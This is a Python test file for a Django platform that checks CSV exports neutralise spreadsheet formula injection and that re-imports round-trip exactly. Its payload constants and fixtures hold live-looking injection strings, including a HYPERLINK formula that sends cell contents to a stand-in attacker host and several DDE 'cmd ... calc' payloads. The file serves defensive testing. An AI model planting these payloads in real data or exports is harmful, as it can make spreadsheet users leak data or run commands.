"""Formula injection (issue 18, finding 2): every CSV export neutralises cells a spreadsheet would run.

The attack: a member (or a write key) plants ``=HYPERLINK(...)`` or ``-2+3+cmd|' /C calc'!A0`` in a
name, a tag or a custom field through the API; whoever opens the export in a spreadsheet runs it. The
defence (``cs_platform.exports.neutralise``) puts a ``'`` before such cells, keeps numbers numeric,
and the importer removes exactly that ``'`` again (``restore``), so a re-exported file round-trips.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse

from accounts.models import Account, Contact
from cs_platform.exports import csv_lines, neutralise, restore
from cs_platform.imports import import_csv
from tests.factories import AccountFactory

pytestmark = pytest.mark.django_db

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")

# What an attacker plants, and the cell a spreadsheet must receive instead.
PAYLOADS = {
    "name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "industry": "+cmd|' /C calc'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "domain": "@sum(1+9)*cmd|' /c calc'!a0",  # lower case: the importer lowercases domains
}


def parse(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def body_of(response) -> bytes:
    assert response.status_code == 200, getattr(response, "content", b"")
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_live_formula(rows: list[list[str]]) -> None:
    """No cell of the file (header included) would be evaluated: each starts with a trigger only if a number."""
    for line, row in enumerate(rows, start=1):
        for value in row:
            if value.startswith(TRIGGERS):
                assert NUMBER.fullmatch(value), f"line {line}: live formula {value!r}"


@pytest.fixture
def planted(org, api):
    """An account and a contact whose text fields were written through the API by a CSM."""
    from accounts.models import Membership
    from tests.factories import UserFactory

    csm = UserFactory()
    Membership.all_orgs.create(organization=org, user=csm, role="csm")
    client = api(org, "csm", csm)
    body = {
        **PAYLOADS,
        "external_id": "=EVIL-1",
        "tags": ["=1+1", "fine"],
        "custom_fields": {"=key": "\tcmd", "note": "\r=x", "quoted": "'=already"},
    }
    created = client.post("/api/v1/accounts/", body, format="json")
    assert created.status_code == 201, created.json()
    account = Account.all_orgs.get(pk=created.json()["id"])
    contact = client.post(
        "/api/v1/contacts/",
        {"account": account.pk, "name": "=1+2", "email": "c@customer.example", "title": "@boss"},
        format="json",
    )
    assert contact.status_code == 201, contact.json()
    return account


def test_neutralise_escapes_every_trigger_and_keeps_numbers():
    for value in PAYLOADS.values():
        assert neutralise(value) == "'" + value
    for trigger in TRIGGERS:
        assert neutralise(trigger + "x") == "'" + trigger + "x"
    # Numbers stay numbers, whatever their sign or form.
    for number in ("-12", "-12.50", "-0.5", "-.5", "+3", "1e5", "-2E-3", "42", "0"):
        assert neutralise(number) == number
    # Things that only look numeric at the start are formulas.
    for formula in ("-1+1", "-1e5+cmd", "+1 555 0100", "-", "+", "--1", "-0x10"):
        assert neutralise(formula) == "'" + formula
    # Harmless text is untouched, including apostrophes not followed by a trigger.
    for text in ("Acme", "'quoted", "'", "", "a=b", " =x", "1-2"):
        assert neutralise(text) == text


def test_restore_is_the_exact_inverse_of_neutralise():
    samples = [
        *PAYLOADS.values(), "=", "'=", "''=x", "'''-1", "'-1", "-1", "-x", "'x", "'", "''", "",
        "\t", "'\t", "\r\n", "@", "'@a", "+3", "'+3", "a'=b", "Acme", "1-2", "-.5",
    ]  # fmt: skip
    for value in samples:
        assert restore(neutralise(value)) == value, value
    # restore only removes what neutralise could have added.
    assert restore("'hello") == "'hello" and restore("'") == "'" and restore("-1") == "-1"
    assert restore("'=x") == "=x" and restore("''=x") == "'=x"


def test_api_csv_export_of_planted_formulas_is_inert(org, api, planted):
    client = api(org, "viewer")
    rows = parse(body_of(client.get("/api/v1/accounts/", {"format": "csv"})))
    header, record = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert_no_live_formula(rows)
    for field, value in PAYLOADS.items():
        assert record[field] == "'" + value, field
    assert record["external_id"] == "'=EVIL-1"
    assert record["tags"] == "'=1+1|fine"  # one cell for the list: escaped as a whole
    assert "custom_fields" in header and record["custom_fields"].startswith("{")  # JSON: never a formula

    contacts = parse(body_of(client.get("/api/v1/contacts/", {"format": "csv"})))
    assert_no_live_formula(contacts)
    contact = dict(zip(contacts[0], contacts[1], strict=True))
    assert (contact["name"], contact["title"]) == ("'=1+2", "'@boss")

    # One object as CSV goes through the same writer.
    one = parse(body_of(client.get(f"/api/v1/accounts/{planted.pk}/", {"format": "csv"})))
    assert_no_live_formula(one)
    assert dict(zip(one[0], one[1], strict=True))["name"] == "'" + PAYLOADS["name"]


def test_negative_numbers_stay_numeric_in_exports():
    rows = parse("".join(csv_lines(["amount", "text", "decimal"], [[-12.5, "-12.5", "-0.75"]])).encode())
    assert rows[1] == ["-12.5", "-12.5", "-0.75"]


def test_page_export_is_inert_and_reimports_unchanged(client, org, alice, planted, tmp_path):
    AccountFactory(organization=org, name="Plain", custom_fields={"note": "ok"})
    before = list(
        Account.objects.for_org(org)
        .order_by("pk")
        .values_list("external_id", "name", "domain", "industry", "region", "custom_fields")
    )
    planted_before = Account.all_orgs.get(pk=planted.pk)
    assert planted_before.name == PAYLOADS["name"]

    client.force_login(alice)
    url = reverse("my-book", args=[org.slug])
    body = body_of(client.get(url, {"scope": "all", "export": "csv", "columns": "import"}))
    rows = parse(body)
    assert_no_live_formula(rows)
    assert "'=key" in rows[0]  # a custom field's name is user data too: the header is escaped
    planted_row = next(dict(zip(rows[0], row, strict=True)) for row in rows[1:] if row[0] == "'=EVIL-1")
    assert planted_row["name"] == "'" + PAYLOADS["name"]
    assert planted_row["'=key"] == "'\tcmd" and planted_row["note"] == "'\r=x"
    assert planted_row["quoted"] == "''=already"  # escaped so that restore() gives back "'=already"

    path = tmp_path / "export.csv"
    path.write_bytes(body)
    result = import_csv(org, "accounts", path)
    assert result.ok, result.errors
    assert (result.created, result.updated) == (0, 0)  # every row came back exactly as it was
    after = list(
        Account.objects.for_org(org)
        .order_by("pk")
        .values_list("external_id", "name", "domain", "industry", "region", "custom_fields")
    )
    assert after == before


def test_import_strips_only_the_added_apostrophe(org, tmp_path):
    path = tmp_path / "contacts.csv"
    AccountFactory(organization=org, external_id="A-1")
    path.write_text(
        "external_id,account_external_id,name,email,title,roles,active\n"
        "C-1,A-1,'=1+2,a@customer.example,'hello,,true\n"
        "C-2,A-1,''@x,b@customer.example,'-5,,true\n",
        encoding="utf-8",
    )
    result = import_csv(org, "contacts", path)
    assert result.ok, result.errors
    got = dict(Contact.objects.for_org(org).values_list("external_id", "name"))
    titles = dict(Contact.objects.for_org(org).values_list("external_id", "title"))
    assert got == {"C-1": "=1+2", "C-2": "'@x"}
    assert titles == {"C-1": "'hello", "C-2": "-5"}


def test_import_error_report_is_inert(client, org, alice, tmp_path):
    """The errors CSV of a run echoes what was in the file: it is an export too."""
    from accounts.models import JobRun

    run = JobRun.all_orgs.create(
        organization=org,
        kind="import_csv",
        status="failed",
        errors=[{"line": 2, "column": "=cmd", "reason": "-2+3+cmd|' /C calc'!A0 is not a date"}],
    )
    client.force_login(alice)
    rows = parse(body_of(client.get(reverse("admin-job-errors-csv", args=[org.slug, run.pk]))))
    assert_no_live_formula(rows)
    assert rows[1] == ["2", "'=cmd", "'-2+3+cmd|' /C calc'!A0 is not a date"]
